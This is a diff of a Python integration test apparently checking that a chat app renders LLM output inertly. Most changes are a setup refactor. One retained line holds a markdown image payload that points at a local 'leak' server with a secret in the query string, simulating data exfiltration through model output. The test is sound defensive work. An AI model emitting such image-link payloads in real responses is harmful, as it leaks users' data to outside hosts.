@@ -13,9 +13,8 @@ import httpx
 import pytest
 from playwright.sync_api import expect
 
-from tests.conftest import SMALL_KNOWLEDGE, write_tree
 from tests.integration.browser import browser_page, screenshot
-from tests.integration.conftest import Server, coach_env, run_coach
+from tests.integration.conftest import Server, coach_env, ingest_small_knowledge
 
 pytestmark = pytest.mark.integration
 
@@ -39,12 +38,7 @@ def test_model_output_with_html_scripts_and_images_is_inert(tmp_path: Path) -> N
         f"![chart](http://127.0.0.1:{leak.server_port}/leak.png?secret=budget) PAYLOAD-END"
     )
     env = coach_env(tmp_path / "data", COACH_LLM="fake")
-    assert (
-        run_coach(
-            "ingest", str(write_tree(tmp_path / "k", SMALL_KNOWLEDGE)), env=env, cwd=tmp_path
-        ).returncode
-        == 0
-    )
+    ingest_small_knowledge(tmp_path, env)
     server = Server(env, tmp_path)
     try:
         chat = httpx.post(
